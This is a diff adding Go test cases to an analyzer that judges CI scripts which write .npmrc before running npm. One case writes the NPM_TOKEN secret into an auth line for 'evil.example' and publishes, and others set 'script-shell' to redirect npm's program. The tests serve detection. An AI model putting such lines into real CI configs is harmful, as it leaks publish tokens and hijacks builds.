@@ -139,6 +139,14 @@ func TestWrittenNpmrcJudgedByKeys(t *testing.T) {
 		{script: "printf 'registry=https://r.example/\\n' > .npmrc; echo script-shell=./x >> .npmrc; npm test", want: "write, then run"},
 		{script: "printf 'registry=https://r.example/\\n' > .npmrc\necho script-shell=./x >> .npmrc\nnpm test", want: "write, then run"},
 		{script: "printf \"registry=$R\\n\" > .npmrc; npm test", want: "write, then run"},
+		// The CI publish line: the token expanded by the shell is the
+		// delivered secret, kept as ${NPM_TOKEN}; any other expansion, or
+		// the token in a key that runs a program, keeps write, then run.
+		{script: "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc\nnpm publish", understood: true, want: "registry.npmjs.org: npm sends secret NPM_TOKEN", noSecret: true},
+		{script: "echo \"//evil.example/:_authToken=$NPM_TOKEN\" > .npmrc\nnpm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
+		{script: "echo \"//registry.npmjs.org/:_authToken=${OTHER}\" > .npmrc\nnpm publish", want: "write, then run"},
+		{script: "echo \"script-shell=${NPM_TOKEN}\" > .npmrc\nnpm test", want: "write, then run"},
+		{script: "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN:-x}\" > .npmrc\nnpm publish", want: "write, then run"},
 		{script: "printf 'registry=%s\\n' x > .npmrc; npm test", want: "write, then run"},
 		{script: "printf 'registry=x\\n' > package.json; npm test", want: "write, then run"},
 	}
